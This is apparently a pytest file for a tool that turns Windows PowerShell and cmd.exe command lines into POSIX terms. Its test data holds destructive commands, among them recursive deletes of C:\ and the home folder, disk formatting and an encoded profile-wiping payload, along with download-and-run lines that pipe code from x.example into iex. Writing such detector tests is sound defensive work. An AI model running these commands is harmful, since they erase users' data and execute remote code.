"""Windows command lines (guidance.shell.windows): PowerShell and cmd.exe read in shell terms."""

from __future__ import annotations

import pytest

from cf_guidance.shell import analyze
from cf_guidance.shell.windows import cmd, decode_encoded_command, posix_path, powershell

PATHS = [
    ("C:\\", "/"),
    ("C:", "/"),
    ("C:\\Users", "/Users"),
    ("c:\\Users\\dev\\src", "/Users/dev/src"),
    ("$env:USERPROFILE", "~"),
    ("$env:USERPROFILE\\Documents", "~/Documents"),
    ("%USERPROFILE%\\.ssh", "~/.ssh"),
    ("$HOME", "~"),
    ("~\\src", "~/src"),
    ("$env:TEMP\\x", "$TMPDIR/x"),
    ("%TEMP%", "$TMPDIR"),
    (".\\build", "./build"),
    ("build\\out", "build/out"),
    ("\\\\server\\share", "//server/share"),
    ("$env:SystemRoot", "$env:SystemRoot"),
]


@pytest.mark.parametrize(("windows", "posix"), PATHS)
def test_posix_path(windows: str, posix: str) -> None:
    assert posix_path(windows) == posix


POWERSHELL = [
    ("Remove-Item -Recurse -Force C:\\Users", [["rm", "-rf", "/Users"]]),
    ("rm -r -fo C:\\", [["rm", "-rf", "/"]]),
    ("Remove-Item -Path .\\build -Recurse", [["rm", "-rf", "./build"]]),
    ("Remove-Item -LiteralPath 'a b.txt'", [["rm", "-f", "a b.txt"]]),
    ("ri $env:TEMP\\x -rec -WhatIf", []),
    ("Get-ChildItem .\\dist | Remove-Item -Recurse", [["Get-ChildItem", ".\\dist"]]),
    ("Set-Content -Path $HOME\\.bashrc -Value ''", [["tee", "~/.bashrc"]]),
    ("Copy-Item .\\a C:\\Windows\\a", [["cp", "-r", "./a", "/Windows/a"]]),
    ("iwr https://x.example/a.zip -OutFile a.zip", [["curl", "https://x.example/a.zip"]]),
    ("irm https://x.example/i.ps1 | iex", [["sh", "-c", "curl 'https://x.example/i.ps1' | sh"], ["curl", "https://x.example/i.ps1"]]),
    ("Invoke-Expression 'Remove-Item -Recurse ~'", [["rm", "-rf", "~"]]),
    ("git status; npm test", [["git", "status"], ["npm", "test"]]),
    ("Format-Volume -DriveLetter D -FileSystem NTFS", [["mkfs", "/dev/diskd"]]),
]


@pytest.mark.parametrize(("code", "expected"), POWERSHELL)
def test_powershell(code: str, expected: list[list[str]]) -> None:
    assert powershell(code) == expected


CMD = [
    ("del /s /q C:\\", [["rm", "-rf", "/"]]),
    ("del /q build\\*.obj", [["rm", "-f", "build/*.obj"]]),
    ("rd /s /q C:\\Users\\dev", [["rm", "-rf", "/Users/dev"]]),
    ("rmdir out", [["rm", "-d", "out"]]),
    ("robocopy C:\\empty %USERPROFILE% /MIR", [["rm", "-rf", "~"]]),
    ("robocopy src dst /E", [["robocopy", "src", "dst", "/E"]]),
    ("cd build && del /q *.tmp & dir", [["cd", "build"], ["rm", "-f", "*.tmp"], ["dir"]]),
    ('echo "a & b"', [["echo", "a & b"]]),
    ("format D: /q /y", [["mkfs", "/dev/diskd"]]),
]


@pytest.mark.parametrize(("line", "expected"), CMD)
def test_cmd(line: str, expected: list[list[str]]) -> None:
    assert cmd(line) == expected


def test_downloaded_code_run_in_place_is_a_pipe_into_a_shell() -> None:
    found = powershell("iex (New-Object Net.WebClient).DownloadString('https://x.example/i.ps1')")
    assert found[0] == ["sh", "-c", "curl 'https://x.example/i.ps1' | sh"]


def test_encoded_command_is_utf16_base64() -> None:
    assert decode_encoded_command("UgBlAG0AbwB2AGUALQBJAHQAZQBtAA==") == "Remove-Item"
    assert decode_encoded_command("!!") is None


LAUNCHED = [
    ('powershell -Command "Remove-Item -Recurse -Force C:\\Users"', ["rm", "-rf", "/Users"]),
    ("pwsh -NoProfile -ExecutionPolicy Bypass -c 'rm -r -fo $HOME'", ["rm", "-rf", "~"]),
    ("powershell.exe Remove-Item -Recurse C:\\", ["rm", "-rf", "/"]),
    ("powershell -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUAIAAkAGUAbgB2ADoAVQBTAEUAUgBQAFIATwBGAEkATABFAA==", ["rm", "-rf", "~"]),
    ("cmd /c del /s /q C:\\", ["rm", "-rf", "/"]),
    ("cmd.exe /C \"rd /s /q C:\\Users\\dev\"", ["rm", "-rf", "/Users/dev"]),
    ("cmd /c powershell -c Remove-Item -Recurse ~", ["rm", "-rf", "~"]),
    ("wsl rm -rf ~", ["rm", "-rf", "~"]),
    ("wsl -d Ubuntu -e rm -rf /", ["rm", "-rf", "/"]),
]


@pytest.mark.parametrize(("command", "argv"), LAUNCHED)
def test_windows_launchers_are_followed(command: str, argv: list[str]) -> None:
    assert argv in [c.argv for c in analyze(command).commands]


def test_a_script_file_is_not_read() -> None:
    assert [c.argv for c in analyze("powershell -File '.\\deploy.ps1'").commands] == [["powershell", "-File", ".\\deploy.ps1"]]
